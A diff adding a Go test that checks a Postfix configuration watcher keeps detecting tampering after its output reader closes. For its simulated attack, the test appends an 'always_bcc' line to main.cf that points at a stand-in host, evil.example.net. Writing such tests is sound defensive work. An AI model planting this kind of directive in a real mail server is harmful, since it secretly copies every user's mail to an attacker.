@@ -332,6 +332,37 @@ func searchFiles(t *testing.T, dir, secret string) {
 	}
 }
 
+// TestReaderGone: whoever reads the findings may go away; the watch goes on.
+func TestReaderGone(t *testing.T) {
+	h := postfixTree(t, nil)
+	h.config("watch: {fanotify: false, audit: false, poll: 1s}\n")
+	h.must("seal")
+	bin, err := program()
+	if err != nil {
+		t.Fatal(err)
+	}
+	read, write, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(bin, h.args("watch")...)
+	cmd.Stdout = write
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = cmd.Process.Kill(); _, _ = cmd.Process.Wait() })
+	read.Close()
+	write.Close()
+	for i := range 2 {
+		wait(t, "the agent to be there", func() bool { _, err := os.Stat(filepath.Join(h.state, "control.sock")); return err == nil })
+		h.append("/etc/postfix/main.cf", fmt.Sprintf("always_bcc = box%d@evil.example.net\n", i))
+		wait(t, "the finding", func() bool {
+			out, _ := h.run("findings", "list", "--format", "json")
+			return strings.Contains(out, fmt.Sprintf("box%d@", i))
+		})
+	}
+}
+
 // TestDirectoryMovedAway: the whole configuration is renamed, and another put in
 // its place.
 func TestDirectoryMovedAway(t *testing.T) {
